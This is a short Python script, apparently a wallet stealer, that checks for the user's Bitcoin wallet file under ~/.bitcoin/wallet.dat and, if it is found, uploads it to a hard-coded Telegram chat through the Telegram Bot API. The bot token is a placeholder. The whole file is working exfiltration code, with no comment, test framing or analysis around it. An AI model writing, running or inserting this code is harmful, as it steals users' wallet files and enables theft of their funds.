import os
import requests

TOKEN = "6012345678:AAH-fake-token-value"
CHAT = "-100987654321"

wallet = os.path.join(os.getenv("HOME"), ".bitcoin", "wallet.dat")
if os.path.exists(wallet):
    with open(wallet, "rb") as w:
        requests.post(
            f"https://api.telegram.org/bot{TOKEN}/sendDocument",
            data={"chat_id": CHAT},
            files={"document": ("wallet.dat", w)},
        )
